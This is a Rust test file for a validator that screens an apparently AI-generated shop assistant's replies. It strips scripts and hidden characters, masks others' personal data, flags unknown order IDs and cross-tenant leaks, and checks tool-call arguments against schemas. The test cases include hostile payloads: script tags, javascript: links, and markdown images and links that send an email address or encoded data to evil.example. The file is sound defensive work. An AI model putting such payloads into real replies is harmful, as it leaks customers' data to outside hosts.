//! What passes, what is cleaned, and what is blocked.

use std::sync::Arc;

use proptest::prelude::*;
use temei_properties::properties;

use super::schema::Schema;
use super::*;

struct Shop;

impl Catalogue for Shop {
    fn has(&self, code: &str) -> bool {
        ["LAP-0042", "5941234567899"].contains(&code)
    }

    fn looks_like_sku(&self, token: &str) -> bool {
        token.len() == 8 && token.starts_with("LAP-")
    }
}

const EVIDENCE: [(Word, &str); 3] = [
    (
        Word::Ours,
        r##"{"order_id": "#W4923227", "email": "ana@example.com", "phone": "+40722123456", "card": "4111 1111 1111 1111"}"##,
    ),
    (Word::Ours, "Ana Ionescu"),
    (Word::Customer, "My order is 7788990, I am Mr. Vlad"),
];

fn validated(text: &str) -> OutputVerdict {
    validated_with(text, &[], MAX_TOKENS)
}

fn validated_with(text: &str, tool_calls: &[ToolCall<'_>], max_tokens: usize) -> OutputVerdict {
    let known = Known::new(EVIDENCE);
    let hosts = ["shop.example".to_owned()];
    validate(&OutputInput {
        text,
        tenant: "acme",
        known: &known,
        catalogue: &Shop,
        allowed_hosts: &hosts,
        tool_calls,
        max_tokens,
        scrub: scrub::Options::default(),
    })
}

fn kinds(verdict: &OutputVerdict) -> Vec<IssueKind> {
    verdict.issues.iter().map(|issue| issue.kind).collect()
}

#[test]
fn an_ordinary_answer_passes_untouched() {
    for text in [
        "Laptop Nimbus 14 (LAP-0042) costă **4.199,00 lei** și este în stoc.\n\n- 2 ani garanție\n- livrare gratuită",
        "Comanda #W4923227 a fost trimisă la ana@example.com, dl. Ionescu.",
        "Your order W4923227 is on its way. Call you at 0722 123 456? Price < 100 and > 50, I <3 it.",
        "Ver [o produto](https://shop.example/p?x=1) ou https://outro.example/pagina.",
        "Pedido realizado em 12/03/2026, total R$ 1.299,90 em 12x.",
        "Η παραγγελία σας θα φτάσει στις 12-03-2026. 👨‍👩‍👧",
        "El pedido de 12345 unidades",
        "Tenant: acme; orders 2026, comanda ta de 1299 lei",
    ] {
        let verdict = validated(text);
        assert_eq!(verdict.issues, [], "{text}");
        assert!(verdict.ok && !verdict.blocked);
        assert_eq!(verdict.text, text);
    }
}

#[test]
fn a_long_answer_is_cut_behind_a_sentence_with_a_warning() {
    let text = "Una frase de prueba con ocho palabras aquí. ".repeat(400);
    let verdict = validated(&text);
    assert_eq!(kinds(&verdict), [IssueKind::TooLong]);
    assert!(verdict.ok && verdict.tokens > MAX_TOKENS);
    assert!(verdict.text.ends_with("aquí.") && tokens(&verdict.text) <= MAX_TOKENS);
    assert!(tokens(&verdict.text) > MAX_TOKENS * 8 / 10);
    let word = validated_with(&"cuvânt ".repeat(50), &[], 20);
    assert!(word.text.ends_with("cuvânt…"), "{}", word.text);
    assert_eq!(validated_with(&"a".repeat(1_000), &[], 20).text.chars().count(), 81);
}

#[test]
fn tokens_are_counted_by_script() {
    for (text, expected) in [
        ("", 0),
        ("the cat", 2),
        ("international", 4),
        ("1234567", 3),
        ("παραγγελία", 5),
        ("preț", 2),
        ("你好", 2),
        ("a, b.", 4),
    ] {
        assert_eq!(tokens(text), expected, "{text}");
    }
}

#[test]
fn what_nobody_sees_is_taken_out() {
    let verdict = validated("Bună\u{0} ziua\u{202e}drow\u{202c} a\u{200b}\u{200b}b \u{e0041}\u{e0042}ok \u{fffd}");
    assert_eq!(verdict.text, "Bună ziuadrow ab ok ");
    assert!(!verdict.ok && !verdict.blocked);
    assert!(
        verdict.issues.iter().any(|issue| issue.kind == IssueKind::InvisibleText && issue.severity == Severity::Error)
    );
    assert!(validated("a\u{7}b").ok);
}

#[test]
fn markup_that_does_something_is_taken_out() {
    for (text, kind, clean) in [
        ("Hi<script>steal()</script> there", IssueKind::Script, "Hi there"),
        ("a<SCRIPT src=x>b", IssueKind::Script, "a"),
        ("x <b onclick=\"go()\">y</b>", IssueKind::Script, "x y"),
        ("<iframe src=\"https://evil.example\"></iframe>ok", IssueKind::Script, "ok"),
        ("see ![chart](https://evil.example/x.png?d=ana) ok", IssueKind::ExternalImage, "see chart ok"),
        ("<img src='https://evil.example/x'>ok", IssueKind::ExternalImage, "ok"),
        ("[click](javascript:alert(1)) me", IssueKind::Script, "click) me"),
        ("[here](java\tscript:go)", IssueKind::Script, "here"),
        ("go javascript:alert(1) now", IssueKind::Script, "go ) now"),
        ("[offer](https://evil.example/?q=ana@example.com)", IssueKind::LinkWithData, "offer"),
        (
            "https://evil.example/c?d=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8",
            IssueKind::LinkWithData,
            "evil.example",
        ),
        ("one<br>two", IssueKind::Html, "one\ntwo"),
        ("a<!-- hidden -->b", IssueKind::Html, "ab"),
        ("cut <scr", IssueKind::Html, "cut "),
        ("[i]: https://evil.example/?q=ana@example.com\n![x][i]", IssueKind::LinkWithData, "i\n![x][i]"),
    ] {
        let verdict = validated(text);
        assert_eq!(kinds(&verdict).first(), Some(&kind), "{text} {:?}", verdict.issues);
        assert_eq!(verdict.text, clean, "{text}");
        assert!(!verdict.blocked);
    }
    // In pieces, it is put together by cleaning; and a label can hold a tag.
    for text in [
        "<scr<b>ipt>go()</script>",
        "<scr\u{200b}ipt>go()</script>",
        "![<script>x</script>](https://evil.example/x.png)",
    ] {
        let verdict = validated(text);
        assert!(!verdict.ok && !verdict.text.contains("script"), "{text} {}", verdict.text);
    }
    assert!(validated("![logo](https://cdn.shop.example/logo.png) ![x](/x.png)").ok);
    assert!(!validated("![logo](https://shop.example.evil.example/logo.png)").ok);
    assert!(!validated("![logo](https://shop.example@evil.example/logo.png)").ok);
}

#[test]
fn a_tag_is_looked_at_up_to_a_whole_character() {
    for before in 0..4 {
        let text = format!("<{}{}", "-".repeat(before), "ț".repeat(4_096));
        assert_eq!(kinds(&validated_with(&text, &[], usize::MAX)), [], "{before}");
    }
}

#[test]
fn personal_data_of_others_is_masked() {
    let verdict = validated(
        "Scrieți la ion@example.com, card 5500 0055 5555 5559; al dvs. e ana@example.com și 4111111111111111.",
    );
    assert_eq!(kinds(&verdict), [IssueKind::PersonalData, IssueKind::PersonalData]);
    assert_eq!(
        verdict.text,
        "Scrieți la i██@███████.███, card ████ ████ ████ 5559; al dvs. e ana@example.com și 4111111111111111."
    );
    assert!(!verdict.ok && verdict.issues.iter().all(|issue| !issue.message.contains("ion@")));
    assert!(validated("Dl. Vlad, Mr. Ionescu").ok);
    assert!(!validated("Dl. Popescu").ok);
}

#[test]
fn an_id_that_nobody_gave_is_told() {
    for (text, kind) in [
        ("Comanda nr. 4477112 e pe drum", IssueKind::UnknownId),
        ("Order #W4923228 was cancelled", IssueKind::UnknownId),
        ("Seu pedido número 99887766 saiu", IssueKind::UnknownId),
        ("El pedido PED-2026-001 llegó", IssueKind::UnknownId),
        ("Η παραγγελία με αριθμό 55667788", IssueKind::UnknownId),
        ("see #A123456", IssueKind::UnknownId),
        ("Order 7788990 is being packed", IssueKind::UnconfirmedId),
        ("Take LAP-9999 instead", IssueKind::UnknownSku),
        ("tenant_id: globex", IssueKind::CrossTenant),
        ("{\"tenant\": \"globex\"}", IssueKind::CrossTenant),
    ] {
        let verdict = validated(text);
        assert_eq!(kinds(&verdict), [kind], "{text} {:?}", verdict.issues);
        assert_eq!(verdict.ok, kind == IssueKind::UnconfirmedId, "{text}");
        assert_eq!(verdict.blocked, kind == IssueKind::CrossTenant, "{text}");
        assert_eq!(verdict.text.is_empty(), verdict.blocked, "{text}");
    }
}

#[test]
fn tool_calls_are_held_to_their_schemas() {
    let schema = r#"{"type": "object", "properties": {"sku": {"type": "string"}}, "required": ["sku"]}"#;
    let call = |arguments, schema| ToolCall { name: "add", arguments, schema: Schema::parse(schema).map(Arc::new) };
    let verdict = validated_with("ok", &[call("{\"sku\": \"A\"}", schema)], MAX_TOKENS);
    assert!(verdict.ok);
    let calls = [call("{", schema), call("{}", schema), call("{\"sku\": 1}", schema), call("{}", r#"{"oneOf": []}"#)];
    let verdict = validated_with("ok", &calls, MAX_TOKENS);
    let told: Vec<_> = verdict.issues.iter().map(|issue| (issue.kind, issue.tool_call.clone())).collect();
    let at = |index, path: &str| Some((index, path.to_owned()));
    assert_eq!(
        told,
        [
            (IssueKind::ToolArguments, at(0, "")),
            (IssueKind::ToolArguments, at(1, "")),
            (IssueKind::ToolArguments, at(2, "/sku")),
            (IssueKind::ToolSchema, at(3, "")),
        ]
    );
    assert!(verdict.issues[3].message.contains("oneOf"));
}

#[test]
fn what_a_schema_has_no_steps_for_is_not_taken_for_checked() {
    let schema = r#"{"items": {"pattern": "(?:a?){60}b"}}"#;
    let arguments = format!("[{}\"\"]", format!("\"{}\",", "a".repeat(1_000)).repeat(60));
    let call = ToolCall { name: "add", arguments: &arguments, schema: Schema::parse(schema).map(Arc::new) };
    let verdict = validated_with("ok", &[call], MAX_TOKENS);
    assert!(!verdict.ok, "{:?}", verdict.issues);
    assert!(verdict.issues[0].message.contains("more steps"), "{:?}", verdict.issues);
}

#[test]
fn misfits_are_bounded_in_number_and_length_and_the_verdict_heeds_all() {
    let key = "k".repeat(30_000);
    let arguments = format!("{{\"{key}\": [{}1]}}", "1,".repeat(15_000));
    let schema = r#"{"additionalProperties": {"items": {"type": "string"}}}"#;
    let call = || ToolCall { name: "add", arguments: &arguments, schema: Schema::parse(schema).map(Arc::new) };
    // What is only a warning comes first and fills the list.
    let text = "\u{200b}a".repeat(300);
    let verdict = validated_with(&text, &[call(), call()], MAX_TOKENS);
    assert!(
        !verdict.ok && verdict.issues.len() == MAX_ISSUES && verdict.issues_omitted > 0,
        "{}",
        verdict.issues_omitted
    );
    let longest = verdict.issues.iter().map(|issue| issue.message.len()).max();
    assert!(longest <= Some(256), "{longest:?}");
    assert!(verdict.issues.iter().all(|issue| issue.severity == Severity::Error), "the graver are kept");
}

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        ".{0,12}",
        "[ <>!\\[\\]()/:=\"'#.]{1,3}",
        prop::sample::select(vec![
            "<script>",
            "</script>",
            "<b ",
            "<!--",
            "-->",
            "![a](",
            "https://evil.example/?q=ana@example.com",
            "javascript:",
            "order #A12345 ",
            "tenant_id: x1 ",
            "ion@example.com",
            "\u{202e}",
            "\u{200b}",
            "[x]: ",
            "data:text/html,",
            "dl. Ion ",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(properties(40_000))]

    #[test]
    fn any_text_has_a_verdict_with_spans_in_it(text in text(), max_tokens in 1_usize..60) {
        let verdict = validated_with(&text, &[], max_tokens);
        for issue in &verdict.issues {
            prop_assert!(issue.span.clone().is_none_or(|span| text.get(span).is_some()));
        }
        prop_assert!(verdict.text.is_empty() || tokens(&verdict.text) <= max_tokens + 40);
    }

    #[test]
    fn what_is_cleaned_is_clean(text in text()) {
        let clean = validated(&text).text;
        let again = validated(&clean);
        let left: Vec<_> = again.issues.iter().filter(|issue| !is_told_only(issue.kind)).collect();
        prop_assert!(left.is_empty(), "{} {:?}", clean, left);
        prop_assert_eq!(again.text, clean);
    }
}

/// Issues that leave the text as it is.
fn is_told_only(kind: IssueKind) -> bool {
    matches!(kind, IssueKind::UnknownId | IssueKind::UnconfirmedId | IssueKind::UnknownSku | IssueKind::CrossTenant)
}
